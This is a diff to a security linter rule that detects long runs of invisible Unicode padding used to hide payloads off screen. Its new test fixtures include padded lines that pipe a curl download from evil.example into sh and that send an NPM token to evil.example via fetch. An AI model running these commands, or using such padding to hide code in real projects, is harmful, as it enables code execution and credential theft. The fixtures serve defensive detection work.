@@ -11,6 +11,13 @@ export const meta: RuleMeta = {
     'A run of eight or more blank non-ASCII characters (U+3000 ideographic space, U+2000–U+200A, U+2800 braille blank, Hangul fillers…) followed by more text on the same line pushes that text past the edge of UIs, terminals and review tools (the padding used to hide a payload after a harmless-looking branch name). Trailing runs are low.',
   remediation: 'remove the padding and look at what it was hiding',
   example: {bad: 'main  (then 40 × U+3000, then ;curl evil.example|sh)', good: 'main'},
+  examples: {
+    flagged: [
+      {escaped: true, text: `Update README${'\\u{3000}'.repeat(60)}$(curl -sSfL evil.example/p|sh)\n`, file: 'pr-description.txt'},
+      {escaped: true, text: `const ok = true;${'\\u{2800}'.repeat(40)}fetch('https://evil.example/' + process.env.NPM_TOKEN)\n`, file: 'src/index.js', note: 'braille blanks push the call off screen'},
+    ],
+    clean: [{escaped: true, text: '\\u{3000}\\u{3000}\\u{65E5}\\u{672C}\\u{8A9E}\n', file: 'docs/ja.md', note: 'Japanese indentation'}, {text: 'Update README\n', file: 'pr-description.txt'}],
+  },
 }
 
 const RUN = /(?:[\u1680\u2000-\u200a\u202f\u205f\u2800\u3000\u3164\uffa0\u115f\u1160][ \t]*){8,}/g
